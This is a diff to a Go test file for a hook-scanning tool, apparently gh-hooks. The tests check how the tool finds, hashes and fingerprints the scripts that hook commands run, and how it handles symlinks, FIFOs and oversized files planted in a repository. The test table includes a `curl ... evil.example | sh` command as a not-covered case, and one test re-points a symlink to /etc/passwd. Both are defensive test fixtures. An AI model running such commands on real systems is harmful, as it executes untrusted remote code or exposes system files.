@@ -5,11 +5,15 @@ import (
 	"encoding/hex"
 	"os"
 	"path/filepath"
+	"strings"
+	"syscall"
 	"testing"
 
-	"github.com/gh-hooks/gh-hooks/runner"
-
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+
+	"github.com/gh-hooks/gh-hooks/merge"
+	"github.com/gh-hooks/gh-hooks/runner"
 )
 
 func sum(s string) string {
@@ -27,60 +31,208 @@ func writeFile(t *testing.T, path, data string) {
 	}
 }
 
+// brief is a script as "state path" (ok files with their content's first
+// line), for compact tables.
+func brief(ss []Script) []string {
+	var out []string
+	for _, s := range ss {
+		out = append(out, string(s.State)+" "+s.Path)
+	}
+	return out
+}
+
+// Every command form of issue 17 §3: the files hashed and what is not
+// covered.
 func TestFindScripts(t *testing.T) {
 	dir := t.TempDir()
-	writeFile(t, filepath.Join(dir, "x.sh"), "echo x\n")
-	writeFile(t, filepath.Join(dir, "scripts", "y.sh"), "echo y\n")
-	writeFile(t, filepath.Join(dir, "hooks", "z.js"), "console.log(1)\n")
-	writeFile(t, filepath.Join(dir, "p.py"), "print(1)\n")
-	os.Mkdir(filepath.Join(dir, "adir"), 0o755)
-	ok := func(word, path, body string) Script {
-		return Script{Word: word, Path: path, State: ScriptOK, SHA256: sum(body)}
+	for _, f := range []string{"x.sh", "s", "scripts/x.sh", "scripts/y.sh", "lint.sh", "f", "hooks/a.sh", "bin/lint",
+		"env.sh", "hooks/z.js", "p.py", "package.json", "sub/Makefile", ".claude/hooks/g.py", ".claude/stop.py", "a", "b", "sub/a"} {
+		writeFile(t, filepath.Join(dir, f), "echo "+f+"\n")
 	}
-	x, y := "echo x\n", "echo y\n"
+	os.Mkdir(filepath.Join(dir, "adir"), 0o755)
 	tests := []struct {
-		name string
-		cmd  string
-		env  map[string]string
-		want []Script
+		cmd        string
+		env        map[string]string
+		want       []string
+		notCovered []string // substrings, in order
 	}{
-		{"relative command", "./x.sh", nil, []Script{ok("./x.sh", "./x.sh", x)}},
-		{"bash script", "bash scripts/y.sh --flag", nil, []Script{ok("scripts/y.sh", "./scripts/y.sh", y)}},
-		{"node script", "node --require ./r hooks/z.js", nil, []Script{ok("hooks/z.js", "./hooks/z.js", "console.log(1)\n")}},
-		{"python without slash", "python3 -u p.py", nil, []Script{ok("p.py", "./p.py", "print(1)\n")}},
-		{"python -m is a module", "python3 -m black .", nil, nil},
-		{"bare GEMINI_PROJECT_DIR", "$GEMINI_PROJECT_DIR/x.sh", nil, []Script{ok("$GEMINI_PROJECT_DIR/x.sh", "./x.sh", x)}},
-		{"braced GEMINI_PROJECT_DIR", "${GEMINI_PROJECT_DIR}/scripts/y.sh", nil, []Script{ok("${GEMINI_PROJECT_DIR}/scripts/y.sh", "./scripts/y.sh", y)}},
-		{"quoted CLAUDE_PROJECT_DIR", `"$CLAUDE_PROJECT_DIR"/x.sh`, nil, []Script{ok(`"$CLAUDE_PROJECT_DIR"/x.sh`, "./x.sh", x)}},
-		{"braced CLAUDE_PROJECT_DIR in quotes", `bash "${CLAUDE_PROJECT_DIR}/x.sh"`, nil, []Script{ok(`"${CLAUDE_PROJECT_DIR}/x.sh"`, "./x.sh", x)}},
-		{"hook env overrides the braced form", "${GEMINI_PROJECT_DIR}/x.sh", map[string]string{"GEMINI_PROJECT_DIR": "/elsewhere"},
-			[]Script{{Word: "${GEMINI_PROJECT_DIR}/x.sh", Path: "/elsewhere/x.sh", State: ScriptOutside}}},
-		// The runner splices textually, even inside single quotes (spec §5.3).
-		{"runner expands inside single quotes", `'$GEMINI_PROJECT_DIR/x.sh'`, nil, []Script{ok(`'$GEMINI_PROJECT_DIR/x.sh'`, "./x.sh", x)}},
-		{"the shell does not", `bash '${GEMINI_PROJECT_DIR}/x.sh'`, nil, []Script{{Word: `'${GEMINI_PROJECT_DIR}/x.sh'`, Path: "./${GEMINI_PROJECT_DIR}/x.sh", State: ScriptMissing}}},
-		{"chain, redirect, env prefix", "FOO=1 ./x.sh 2>/dev/null && env -u X bash scripts/y.sh | tee log", nil,
-			[]Script{ok("./x.sh", "./x.sh", x), ok("scripts/y.sh", "./scripts/y.sh", y)}},
-		{"bash -c is scanned", `bash -c './x.sh; echo done'`, nil, []Script{ok("./x.sh", "./x.sh", x)}},
-		{"duplicates once", "./x.sh && ./x.sh", nil, []Script{ok("./x.sh", "./x.sh", x)}},
-		{"missing", "./nope.sh arg", nil, []Script{{Word: "./nope.sh", Path: "./nope.sh", State: ScriptMissing}}},
-		{"missing below a file", "./x.sh/sub", nil, []Script{{Word: "./x.sh/sub", Path: "./x.sh/sub", State: ScriptMissing}}},
-		{"directory is unreadable", "bash adir", nil, []Script{{Word: "adir", Path: "./adir", State: ScriptUnreadable, Detail: "is a directory"}}},
-		{"unknown variable", "$FOO/x.sh", nil, []Script{{Word: "$FOO/x.sh", State: ScriptUnresolvable}}},
-		{"command substitution", "bash $(git rev-parse --show-toplevel)/x.sh", nil, []Script{{Word: "$(git rev-parse --show-toplevel)/x.sh", State: ScriptUnresolvable}}},
-		{"glob", "bash scripts/*.sh", nil, []Script{{Word: "scripts/*.sh", State: ScriptUnresolvable}}},
-		{"system tool", "/usr/bin/jq .", nil, []Script{{Word: "/usr/bin/jq", Path: "/usr/bin/jq", State: ScriptOutside}}},
-		{"PATH command", "npx prettier --write .", nil, nil},
-		{"escaping the project", "bash ../x.sh", nil, []Script{{Word: "../x.sh", Path: filepath.Join(filepath.Dir(dir), "x.sh"), State: ScriptOutside}}},
-		{"comment", "echo hi # ./x.sh", nil, nil},
-		{"bun package script", "bun run lint", nil, nil},
+		{cmd: `./x.sh`, want: []string{"ok ./x.sh"}},
+		{cmd: `cd scripts && ./x.sh`, want: []string{"ok ./scripts/x.sh"}},
+		{cmd: `timeout 10 ./s`, want: []string{"ok ./s"}},
+		{cmd: `nice ./s`, want: []string{"ok ./s"}},
+		{cmd: `nice -n 5 ./s`, want: []string{"ok ./s"}},
+		{cmd: `git ls-files | xargs ./lint.sh`, want: []string{"ok ./lint.sh"}},
+		{cmd: `env FOO=1 ./s`, want: []string{"ok ./s"}},
+		{cmd: `exec ./s`, want: []string{"ok ./s"}},
+		{cmd: `nohup ./s &`, want: []string{"ok ./s"}},
+		{cmd: `if [ -f x ]; then ./s; fi`, want: []string{"ok ./s"}},
+		{cmd: `if true; then ./a; else ./b; fi`, want: []string{"ok ./a", "ok ./b"}},
+		{cmd: `{ ./s; }`, want: []string{"ok ./s"}},
+		{cmd: `(cd sub; ./a); ./b`, want: []string{"ok ./sub/a", "ok ./b"}},
+		{cmd: `eval "$CMD"`, notCovered: []string{"eval of $CMD"}},
+		{cmd: `eval ./x.sh`, want: []string{"ok ./x.sh"}},
+		{cmd: `bash < f`, want: []string{"ok ./f"}},
+		{cmd: `cat f | sh`, want: []string{"ok ./f"}},
+		{cmd: `cat hooks/a.sh | bash -s`, want: []string{"ok ./hooks/a.sh"}},
+		{cmd: `curl -s https://evil.example/x | sh`, notCovered: []string{"code piped into an interpreter from curl"}},
+		{cmd: `sh -c 'cd scripts; ./y.sh'`, want: []string{"ok ./scripts/y.sh"}},
+		{cmd: `cd scripts && sh -c 'cd ..; ./x.sh'`, want: []string{"ok ./x.sh"}},
+		{cmd: `BASH_ENV=./env.sh bash -c true`, want: []string{"ok ./env.sh"}},
+		{cmd: `PATH=./bin:$PATH lint`, want: []string{"ok ./bin/lint"}},
+		{cmd: `export PATH="$PWD/bin:$PATH"; lint`, notCovered: []string{"PATH set to a computed value"}},
+		{cmd: `source ./env.sh && run`, want: []string{"ok ./env.sh"}},
+		{cmd: `. env.sh`, want: []string{"ok ./env.sh"}},
+		{cmd: `bash scripts/y.sh --flag`, want: []string{"ok ./scripts/y.sh"}},
+		{cmd: `node --require ./r hooks/z.js`, want: []string{"ok ./hooks/z.js"}},
+		{cmd: `python3 -u p.py`, want: []string{"ok ./p.py"}},
+		{cmd: `python3 -m black .`},
+		{cmd: `npm run lint`, want: []string{"ok ./package.json"}},
+		{cmd: `make -C sub check`, want: []string{"ok ./sub/Makefile"}},
+		{cmd: `find . -name '*.go' -exec ./lint.sh {} \;`, want: []string{"ok ./lint.sh"}},
+		// The Claude adapter is seen through to the inner command.
+		{cmd: `gh-hooks claude-compat --event PreToolUse -- '$CLAUDE_PROJECT_DIR/.claude/hooks/g.py'`, want: []string{"ok ./.claude/hooks/g.py"}},
+		{cmd: `gh-hooks claude-compat --event Stop -- 'cd .claude && python3 stop.py'`, want: []string{"ok ./.claude/stop.py"}},
+		// Gemini's runner splices the quoted project directory (spec §5.3).
+		{cmd: `$GEMINI_PROJECT_DIR/x.sh`, want: []string{"ok ./x.sh"}},
+		{cmd: `${GEMINI_PROJECT_DIR}/scripts/y.sh`, want: []string{"ok ./scripts/y.sh"}},
+		{cmd: `bash "${CLAUDE_PROJECT_DIR}/x.sh"`, want: []string{"ok ./x.sh"}},
+		{cmd: `'$GEMINI_PROJECT_DIR/x.sh'`, want: []string{"ok ./x.sh"}},
+		{cmd: `${GEMINI_PROJECT_DIR}/x.sh`, env: map[string]string{"GEMINI_PROJECT_DIR": "/elsewhere"}, want: []string{"outside-project /elsewhere/x.sh"}},
+		// States.
+		{cmd: `./x.sh && ./x.sh`, want: []string{"ok ./x.sh"}},
+		{cmd: `./nope.sh arg`, want: []string{"missing ./nope.sh"}},
+		{cmd: `./x.sh/sub`, want: []string{"missing ./x.sh/sub"}},
+		{cmd: `bash adir`, want: []string{"unreadable ./adir"}},
+		{cmd: `/usr/bin/jq .`, want: []string{"outside-project /usr/bin/jq"}},
+		{cmd: `bash ../x.sh`, want: []string{"outside-project " + filepath.Join(filepath.Dir(dir), "x.sh")}},
+		{cmd: `npx prettier --write .`},
+		{cmd: `echo hi # ./x.sh`},
+		// What cannot be known.
+		{cmd: `$FOO/x.sh`, notCovered: []string{"a program named by $FOO"}},
+		{cmd: `bash $(git rev-parse --show-toplevel)/x.sh`, notCovered: []string{"script named by a command substitution"}},
+		{cmd: `bash scripts/*.sh`, notCovered: []string{"a glob"}},
+		{cmd: `cd "$X" && ./s`, notCovered: []string{"cd to a computed directory", "a relative path after cd"}},
+		{cmd: `bash -c "$X"`, notCovered: []string{"sh -c with $X"}},
 	}
 	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			got := findScripts(tt.cmd, dir, dir, tt.env)
-			if diff := cmp.Diff(tt.want, got); diff != "" {
+		t.Run(tt.cmd, func(t *testing.T) {
+			got, unknown := findScripts(tt.cmd, dir, dir, tt.env, nil, nil)
+			if diff := cmp.Diff(tt.want, brief(got), cmpopts.EquateEmpty()); diff != "" {
 				t.Errorf("findScripts(%q) (-want +got):\n%s", tt.cmd, diff)
 			}
+			if len(unknown) != len(tt.notCovered) {
+				t.Fatalf("not covered = %q, want %q", unknown, tt.notCovered)
+			}
+			for i, u := range tt.notCovered {
+				if !strings.Contains(unknown[i], u) {
+					t.Errorf("not covered[%d] = %q, want it to contain %q", i, unknown[i], u)
+				}
+			}
+			for _, s := range got {
+				if s.State == ScriptOK {
+					body, _ := os.ReadFile(filepath.Join(dir, s.Path))
+					if s.SHA256 != sum(string(body)) || string(s.Data()) != string(body) {
+						t.Errorf("%s: hash %s, data %q", s.Path, s.SHA256, s.Data())
+					}
+				}
+			}
 		})
+	}
+}
+
+// A word shows the variable it was written with.
+func TestFindScriptsWord(t *testing.T) {
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "x.sh"), "echo\n")
+	got, _ := findScripts(`$GEMINI_PROJECT_DIR/x.sh`, dir, dir, nil, nil, nil)
+	if len(got) != 1 || got[0].Word != "$GEMINI_PROJECT_DIR/x.sh" || got[0].Role != "program" {
+		t.Errorf("got %+v", got)
+	}
+}
+
+// Files a repository can plant: links out of the project, devices, FIFOs
+// and huge files are named, never read, and never hang.
+func TestFindScriptsHostileFiles(t *testing.T) {
+	dir := t.TempDir()
+	outside := t.TempDir()
+	writeFile(t, filepath.Join(outside, "secret"), "secret\n")
+	writeFile(t, filepath.Join(dir, "sub", "ok.sh"), "echo\n")
+	for link, target := range map[string]string{
+		"zero":   "/dev/zero",
+		"out":    filepath.Join(outside, "secret"),
+		"up":     "..",
+		"in.sh":  "sub/ok.sh",
+		"loop":   "loop",
+		"dangle": "/nonexistent/x",
+	} {
+		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	big, err := os.Create(filepath.Join(dir, "big.sh"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := big.Truncate(MaxScript + 1); err != nil {
+		t.Fatal(err)
+	}
+	big.Close()
+	tests := []struct {
+		cmd, want, detail string
+	}{
+		{"./zero", "outside-project ./zero", "./zero -> /dev/zero"},
+		{"bash < zero", "outside-project ./zero", "./zero -> /dev/zero"},
+		{"cat zero | sh", "outside-project ./zero", "./zero -> /dev/zero"},
+		{"./out", "outside-project ./out", "./out -> " + filepath.Join(outside, "secret")},
+		{"./up/x", "outside-project ./up/x", "./up -> .."},
+		{"./in.sh", "ok ./in.sh", ""},
+		{"./loop", "outside-project ./loop", "./loop -> loop"},
+		{"./dangle", "outside-project ./dangle", "./dangle -> /nonexistent/x"},
+		{"./fifo", "not-regular ./fifo", "p---------"},
+		{"./big.sh", "too-large ./big.sh", "16777217 bytes"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.cmd, func(t *testing.T) {
+			got, unknown := findScripts(tt.cmd, dir, dir, nil, nil, nil)
+			if diff := cmp.Diff([]string{tt.want}, brief(got)); diff != "" {
+				t.Fatalf("(-want +got):\n%s", diff)
+			}
+			if got[0].Detail != tt.detail {
+				t.Errorf("detail = %q, want %q", got[0].Detail, tt.detail)
+			}
+			if strings.HasPrefix(tt.want, "too-large") != (len(unknown) == 1) {
+				t.Errorf("not covered = %q", unknown)
+			}
+		})
+	}
+	// A link out of the project is part of the fingerprint: re-pointing it
+	// changes the hook.
+	h := []merge.Hook{hk("BeforeTool", 0, 0, "", "./out")}
+	p := Project{Dir: dir, Real: dir}
+	before := Compute(p, h)[0].Record
+	os.Remove(filepath.Join(dir, "out"))
+	os.Symlink("/etc/passwd", filepath.Join(dir, "out"))
+	after := Compute(p, h)[0].Record
+	if diff := cmp.Diff([]string{"script ./out outside-project"}, Diff(before, after)); diff != "" {
+		t.Errorf("Diff after re-pointing a link (-want +got):\n%s", diff)
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"/p/plain-dir_1.x", "/p/plain-dir_1.x"},
+		{"/p/h5 dir", "'/p/h5 dir'"},
+		{"/p/it's here", `"/p/it's here"`},
+		{"/p/a,b@c", `/p/a\,b\@c`},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := runner.EscapeShellArg(tt.in); got != tt.want {
+			t.Errorf("runner.EscapeShellArg(%q) = %q, want %q", tt.in, got, tt.want)
+		}
 	}
 }
 
@@ -99,24 +251,9 @@ func TestFindScriptsQuotedProjectDir(t *testing.T) {
 		{`"${GEMINI_PROJECT_DIR}/x.sh"`, ScriptOK},
 	}
 	for _, tt := range tests {
-		got := findScripts(tt.cmd, dir, dir, nil)
+		got, _ := findScripts(tt.cmd, dir, dir, nil, nil, nil)
 		if len(got) != 1 || got[0].State != tt.wantState {
 			t.Errorf("findScripts(%q) = %+v, want one script in state %s", tt.cmd, got, tt.wantState)
-		}
-	}
-}
-
-func TestShellQuote(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"/p/plain-dir_1.x", "/p/plain-dir_1.x"},
-		{"/p/h5 dir", "'/p/h5 dir'"},
-		{"/p/it's here", `"/p/it's here"`},
-		{"/p/a,b@c", `/p/a\,b\@c`},
-		{"", ""},
-	}
-	for _, tt := range tests {
-		if got := runner.EscapeShellArg(tt.in); got != tt.want {
-			t.Errorf("runner.EscapeShellArg(%q) = %q, want %q", tt.in, got, tt.want)
 		}
 	}
 }
